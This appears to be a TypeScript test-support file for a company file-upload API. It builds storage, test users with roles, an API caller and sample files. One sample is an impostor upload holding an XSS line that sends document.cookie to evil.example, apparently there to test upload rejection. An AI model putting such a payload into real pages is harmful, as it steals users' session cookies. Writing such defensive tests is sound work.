import { PERMISSION_MANAGE_ALL_COMPANIES, PERMISSION_READ_ALL_COMPANIES } from '#domain/permissions';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import type { CompanyRole } from '#domain/roles';
import { createApp } from '#server/app';
import { createTokenVerifier } from '#server/auth/token-verifier';
import type { Db } from '#server/db/client';
import type { UploadsContext } from '#server/services/uploads';
import { LocalFileStorage } from '#server/storage/local-storage';
import { S3FileStorage } from '#server/storage/s3-storage';
import { addCompany, addMember } from '#tests/server/support/fixtures';
import { json } from '#tests/server/support/test-app';
import { createTestIssuer, TEST_AUDIENCE, TEST_ISSUER, type TestPerson } from '#tests/server/support/tokens';
import { S3_ACCESS_KEY, S3_REGION, S3_SECRET_KEY, startS3Server } from './s3-server';

export const API_BASE = 'http://api.test';
export const SECRET = 'test-upload-secret';
export type Mode = 'local' | 's3';
export const MODES: Mode[] = ['local', 's3'];

/** A storage of the given kind in a fresh place: a temporary folder, or a bucket on a local S3 server. */
export async function openStorage(mode: Mode) {
  if (mode === 'local') {
    const root = await mkdtemp(path.join(tmpdir(), 'inbest-uploads-'));
    const storage = new LocalFileStorage({ root, publicBaseUrl: API_BASE, secret: SECRET });
    return {
      storage,
      root,
      presignRejections: [] as string[],
      close: () => rm(root, { recursive: true, force: true }),
    };
  }
  const s3 = await startS3Server();
  const storage = new S3FileStorage({
    bucket: s3.bucket,
    region: S3_REGION,
    endpoint: s3.endpoint,
    forcePathStyle: true,
    credentials: { accessKeyId: S3_ACCESS_KEY, secretAccessKey: S3_SECRET_KEY },
    publicBaseUrl: `${s3.endpoint}/${s3.bucket}`,
  });
  return { storage, root: null, presignRejections: s3.presignRejections, close: () => s3.close() };
}

/** The people of these tests: roles of one company, the owner of another, and a platform admin. */
export const people = {
  owner: { sub: 'auth0|u-owner', email: 'owner@uploads.test', name: 'Olga' },
  member: { sub: 'auth0|u-member', email: 'member@uploads.test', name: 'Mateo' },
  viewer: { sub: 'auth0|u-viewer', email: 'viewer@uploads.test', name: 'Valentina' },
  foreignOwner: { sub: 'auth0|u-owner2', email: 'owner@otra.test', name: 'Santiago' },
  platformAdmin: {
    sub: 'auth0|u-platform',
    email: 'plataforma@uploads.test',
    // The demo platform admin's pair: reads and manages every company.
    permissions: [PERMISSION_READ_ALL_COMPANIES, PERMISSION_MANAGE_ALL_COMPANIES],
  },
} satisfies Record<string, TestPerson>;
type PersonKey = keyof typeof people;

/** The real API over a test database and the given storage, with a way to call it as someone. */
export async function createUploadsApi(db: Db, uploads: UploadsContext) {
  const issuer = await createTestIssuer();
  const app = createApp({
    db,
    verifyToken: createTokenVerifier({ issuer: TEST_ISSUER, audience: TEST_AUDIENCE, jwks: issuer.jwks }),
    userInfo: async () => ({ email: null, name: null }),
    corsOrigins: ['http://localhost:3000'],
    uploads,
  });
  const call = async (person: TestPerson, method: string, url: string, init: RequestInit = {}) => {
    const headers = new Headers(init.headers);
    headers.set('authorization', `Bearer ${await issuer.tokenFor(person)}`);
    return app.request(url, { ...init, method, headers });
  };
  /** Any address an upload answer names: the API's own (served in-process) or the bucket's. */
  const fetchUrl = async (url: string, init?: RequestInit): Promise<Response> =>
    url.startsWith(API_BASE) ? app.request(url, init) : fetch(url, init);
  return { app, issuer, call, fetchUrl };
}

/** One company with each uploading role and a viewer, and a second company with its own owner. */
export async function setUpCompanies(db: Db, api: Awaited<ReturnType<typeof createUploadsApi>>) {
  const ids = {} as Record<PersonKey, number>;
  for (const [key, person] of Object.entries(people) as [PersonKey, TestPerson][]) {
    ids[key] = (await json(await api.call(person, 'GET', '/users/me'))).id as number;
  }
  const own = await addCompany(db, 'Constructora Cargas S.A.S.');
  const foreign = await addCompany(db, 'Otra Constructora S.A.S.');
  const roles: [PersonKey, CompanyRole][] = [
    ['owner', 'OWNER'],
    ['member', 'MEMBER'],
    ['viewer', 'VIEWER'],
  ];
  for (const [key, role] of roles) await addMember(db, own, ids[key], role);
  await addMember(db, foreign, ids.foreignOwner, 'OWNER');
  return { own, foreign, userIds: ids };
}

const MB = 1024 * 1024;

/** Real files of every accepted kind, a few impostors and an oversized one. */
export async function sampleFiles() {
  const picture = sharp({ create: { width: 1200, height: 800, channels: 3, background: '#2a6f97' } });
  const jpeg = new Uint8Array(await picture.clone().jpeg().toBuffer());
  const png = new Uint8Array(await picture.clone().png().toBuffer());
  const webp = new Uint8Array(await picture.clone().webp().toBuffer());
  const gif = new Uint8Array(await picture.clone().gif().toBuffer());
  const pdf = new TextEncoder().encode('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n');
  // The start of a real .docx: a ZIP whose first part lives under word/.
  const docx = new Uint8Array([
    0x50,
    0x4b,
    0x03,
    0x04,
    ...new TextEncoder().encode('....word/document.xml....'),
  ]);
  const script = new TextEncoder().encode(
    '<script>fetch("https://evil.example/"+document.cookie)</script>\n'
  );
  // Right magic bytes, nothing decodable after them.
  const brokenPng = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1, 2, 3, 4, 5, 6, 7, 8]);
  const big = new Uint8Array(6 * MB);
  big.set(jpeg);
  return { jpeg, png, webp, gif, pdf, docx, script, brokenPng, big };
}

/** A multipart body as a browser sends it. */
export function formOf(
  fields: Record<string, string>,
  files: Array<{ field: string; name: string; bytes: Uint8Array; type: string }>
) {
  const form = new FormData();
  for (const [k, v] of Object.entries(fields)) form.append(k, v);
  for (const f of files) form.append(f.field, new File([f.bytes], f.name, { type: f.type }));
  return form;
}
